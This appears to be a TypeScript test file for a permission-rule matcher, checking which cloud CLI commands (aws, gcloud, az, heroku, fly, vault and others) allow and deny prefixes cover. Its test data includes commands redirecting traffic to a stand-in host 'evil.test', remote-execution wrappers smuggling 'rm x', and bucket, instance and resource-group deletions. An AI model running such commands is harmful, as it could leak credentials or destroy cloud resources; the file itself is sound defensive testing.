/** Checks how allow and deny rules read the commands of cloud providers. */
import { describeFamily, type RuleRows } from '../family.ts';

/** A prefix rule, and everyday commands that it covers. */
const COVERED: RuleRows = [
  [
    'aws:*',
    [
      'aws s3 ls',
      'aws sts get-caller-identity',
      'aws ec2 describe-instances',
      'aws --profile x s3 ls',
      'aws logs describe-log-groups',
      'aws cloudformation describe-stacks --stack-name x',
    ],
  ],
];

/** A prefix rule, and commands beyond it: they execute, load, write or redirect. */
const NOT_COVERED: RuleRows = [
  [
    'aws:*',
    [
      'aws ssm start-session --target x',
      'aws ssm send-command x',
      'aws configure set x y',
      'aws s3 cp a b',
      'aws s3 rm s3://a',
      'aws s3 sync . s3://a',
      'aws --endpoint-url http://evil.test s3 ls',
      'aws s3 ls --endpoint-url=http://evil.test',
      'aws ec2 describe-instances --cli-input-json file://x',
      'aws ecs execute-command --command id',
      'aws sso login',
    ],
  ],
  ['aws s3 cp:*', ['aws s3 cp a b --endpoint-url http://evil.test', 'aws s3 cp --ca-bundle x a b']],
  ['aws s3 ls:*', ['aws s3 ls --no-verify-ssl']],
  [
    'gcloud:*',
    [
      'gcloud compute ssh h',
      'gcloud compute scp a h:b',
      'gcloud beta compute ssh h',
      'gcloud auth login',
      'gcloud config set x y',
      'gcloud ssh x',
      'gcloud cloud-shell ssh',
      'gcloud components install x',
    ],
  ],
  ['az:*', ['az vm run-command invoke', 'az ssh vm', 'az rest --url http://x', 'az extension add x', 'az login']],
  ['heroku:*', ['heroku run id', 'heroku ps:exec']],
  ['fly:*', ['fly ssh console', 'fly machine exec id']],
  ['vercel:*', ['vercel deploy']],
  ['netlify:*', ['netlify dev']],
  ['wrangler:*', ['wrangler dev']],
  ['vault:*', ['vault agent', 'vault ssh', 'vault -address=http://evil.test status']],
  ['stripe:*', ['stripe refunds create']],
  ['ngrok:*', ['ngrok http 80']],
];

/** A denied prefix, and commands that run it. */
const DENIED: RuleRows = [
  [
    'rm:*',
    [
      'heroku run rm x',
      'heroku run "rm x" -a app',
      'heroku run -a app -- rm x',
      'fly ssh console -C "rm x"',
      'fly ssh console --command "rm x"',
      'fly ssh console --command="rm x"',
      'gcloud compute ssh h --command "rm x"',
      'gcloud compute ssh h --command="rm x"',
      'gcloud compute ssh h -- rm x',
      'aws ssm send-command --parameters commands="rm x"',
      'aws ssm start-session --parameters \'command=["rm x"]\'',
      'aws ecs execute-command --command "rm x"',
      'az vm run-command invoke --scripts "rm x"',
      'vault agent -exec="rm x"',
      'railway run rm x',
      'netlify dev:exec rm x',
      'netlify dev --command "rm x"',
    ],
  ],
  [
    'aws s3 rm:*',
    [
      'aws --profile x s3 rm s3://a',
      'aws --no-cli-pager s3 rm s3://a',
      'aws s3 --region x rm s3://a',
      'aws --endpoint-url x s3 rm s3://a',
    ],
  ],
  ['aws iam:*', ['aws --region=x iam list-users']],
  [
    'gcloud compute instances delete:*',
    [
      'gcloud --project x compute instances delete a',
      'gcloud compute --project x instances delete a',
      'gcloud beta compute instances delete a',
    ],
  ],
  ['az group delete:*', ['az --subscription x group delete -n a', 'az group --subscription x delete']],
  ['heroku apps:destroy:*', ['heroku -a x apps:destroy']],
  ['vercel deploy:*', ['vercel --cwd x deploy']],
];

describeFamily({ covered: COVERED, notCovered: NOT_COVERED, denied: DENIED });
